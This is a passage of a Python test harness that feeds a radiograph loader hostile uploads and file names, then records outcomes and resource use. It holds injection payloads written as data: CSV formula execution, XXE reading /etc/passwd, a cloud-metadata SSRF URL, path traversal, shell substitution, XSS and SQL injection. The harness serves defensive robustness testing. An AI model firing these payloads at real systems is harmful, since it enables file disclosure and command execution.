        "csv": lambda: b'=cmd|"/c calc"!A1,NORMAL\n',
        "json": lambda: b'{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
        "xml": lambda: b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        "base64": lambda: base64.b64encode(jpeg()),
        "url": lambda: b"http://169.254.169.254/latest/meta-data/",
        "pkl": lambda: pickle.dumps({"image": [1, 2, 3]}),
        "pt": lambda: archive("archive/data.pkl", pickle.dumps({"weight": 1})),
        "npy": lambda: _npy(grey()),
        "object.npy": lambda: (
            b"\x93NUMPY\1\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128) + b"N."
        ),
        "npz": lambda: archive("image.npy", _npy(grey())),
        "safetensors": lambda: struct.pack("<Q", 2**63) + b'{"image":{}}',
        "py": lambda: b"import os; os.system('id')\n",
        "utf-16": lambda: "\ufeffThe lungs are clear.".encode("utf-16"),
        "nuls": lambda: bytes(100_000),
        "ones": lambda: b"\xff" * 100_000,
        "noise": lambda: random.Random(0).randbytes(100_000),
    }
    for ending, make in files.items():
        yield from _items("wrong", f"image.{ending}", {ending: ("not_an_image", make)})
    heic = {"heic": ("damaged_image not_an_image", lambda: MEDIA + b"heic\0\0\0\0mif1heic" + bytes(999))}
    yield from _items("wrong", "image.heic", heic)
    for name in ("jpeg", "png", "dcm"):
        make = partial(lambda name: WHOLE[name]().ljust(20_000_001, b"\0"), name)
        yield from _items("wrong", f"image.{name}", {f"{name} of too many bytes": ("too_large", make)})
    stream = partial(lambda: bytes(jpeg_ls.encode_array(greys())))
    yield from _items("wrong", "image.jls", {"jls": ("damaged_image", stream)})


def _tiny() -> Iterator[Hostile]:
    starts = {
        "jpg": b"\xff\xd8\xff\xe0",
        "png": b"\x89PNG\r\n\x1a\n",
        "tif": b"II*\0\x08\0\0\0",
        "gif": b"GIF89a@\0@\0",
    }
    starts |= {"webp": b"RIFF\0\0\0\0WEBPVP8 ", "bmp": b"BM", "dcm": b"\x08\0\x05\0CS", "bin": b"\x01\x80"}
    yield Hostile("tiny/nothing", "image.png", bytes, frozenset({"not_an_image"}))
    for (ending, start), size in product(starts.items(), (1, 2, 4, 8, 16)):
        yield Hostile(f"tiny/{size} bytes of {ending}", f"image.{ending}", partial(start[:size].ljust, size, b"\0"))


# Names

NAMES = {
    "up the tree": "../../../../etc/passwd",
    "up the tree, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "up the tree, encoded twice": "%252e%252e%252fpasswd.png",
    "up the tree, backwards": "..\\..\\windows\\win.ini",
    "up the tree, in disguise": "....//....//etc/passwd",
    "absolute": "/etc/passwd",
    "a drive": "C:\\image.jpg",
    "a share": "\\\\evil\\share\\image.jpg",
    "a URL": "http://127.0.0.1:80/image.jpg",
    "a file's URL": "file:///etc/passwd",
    "a NUL": "image.jpg\0.exe",
    "a line feed": "image\n.jpg",
    "a header": "image.jpg\r\nSet-Cookie: a=b",
    "300 characters": "a" * 296 + ".jpg",
    "70,000 characters": "a" * 70_000 + ".jpg",
    "right to left": "image\u202egpj.exe",
    "a device": "CON",
    "a device with an ending": "NUL.jpg",
    "a dash": "-rf",
    "an option": "--output=/etc/passwd",
    "quotes": "image'\"`.jpg",
    "HTML": "<img src=x onerror=alert(1)>.jpg",
    "a script": "<script>alert(1)</script>.jpg",
    "a shell": "image.jpg; touch pwned #",
    "a substitution": "$(touch pwned).jpg",
    "a pipe": "|id",
    "an injection": "image'); DROP TABLE images;--.jpg",
    "a format": "%s%n{0.__class__}.jpg",
    "emoji": "\U0001fac1\U0001f9b4.jpg",
    "combining marks": "f\u0301i\u0308lm.jpg",
    "zero width": "fi\u200blm.jpg",
    "half a pair": "image\udcff.jpg",
    "spaces": "   .jpg",
    "nothing": "",
    "a dot": ".",
    "two dots": "..",
    "hidden": ".htaccess",
    "two endings": "image.jpg.php",
    "a final dot": "image.jpg.",
    "a stream": "image.jpg::$DATA",
    "a patient": f"{SECRET.decode()}.jpg",
}


def _names() -> Iterator[Hostile]:
    for what, filename in NAMES.items():
        yield from _items("name", filename, {what: ("readable", WHOLE["jpeg-small"])})
        yield from _items("name", filename, {f"{what}, of no picture": ("not_an_image", lambda: b"no picture")})


# Feeding it to the reader


class _Told(logging.Handler):
    def __init__(self) -> None:
        super().__init__()
        self.records: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(f"{record.name}: {record.getMessage()}")


def answer(item: Hostile) -> dict[str, Any]:
    """What `load_radiograph` makes of one item, and what it took.

    Returns:
        name; outcome ("readable", the error's code, or the traceback of anything else); message; told (warnings and
        records of the log); crc (of the upload's bytes); seconds (of CPU, children's too); peak (bytes, this process's
        highest so far).
    """
    data, told, message = item.data, _Told(), ""
    logging.getLogger().addHandler(told)
    started = sum(os.times()[:4])
    with warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        try:
            pixels = load_radiograph(data).pixels
            whole = pixels.dtype == np.uint8 and pixels.ndim == 2 and min(pixels.shape) >= 64
            outcome = "readable" if whole else f"no image: {pixels.dtype} {pixels.shape}"
        except RadiographError as error:
            outcome, message = error.code, " ".join(map(str, (error, error.args, error.__cause__, error.__context__)))
        except Exception:
            outcome = traceback.format_exc()
    logging.getLogger().removeHandler(told)
    return {
        "name": item.name,
        "outcome": outcome,
        "message": message,
        "told": [str(warning.message) for warning in warned] + told.records,
        "crc": zlib.crc32(data),
        "seconds": sum(os.times()[:4]) - started,
        "peak": peak_memory(),
    }


def peak_memory() -> int:
    """The most bytes that this program has held; `getrusage` would count what started it as well."""
    held = re.search(r"^VmHWM:\s+(\d+) kB$", Path("/proc/self/status").read_text(), re.MULTILINE)
    assert held
    return int(held[1]) * 1024


def main() -> None:
    """Answer for every item, or for those whose names begin as given; first comes the memory that it starts with."""
    wanted = tuple(sys.argv[1:])
    answer(Hostile("", "image.jpg", EXAMPLE.read_bytes))
    claimed, used = (int(pages) * resource.getpagesize() for pages in Path("/proc/self/statm").read_text().split()[:2])
    resource.setrlimit(resource.RLIMIT_AS, (claimed + MEMORY, claimed + MEMORY))
    logging.getLogger().setLevel(logging.DEBUG)
    print(json.dumps({"start": used}), flush=True)
    for item in corpus():
        if not wanted or item.name.startswith(wanted):
            print(json.dumps(answer(item)), flush=True)


if __name__ == "__main__":
    main()
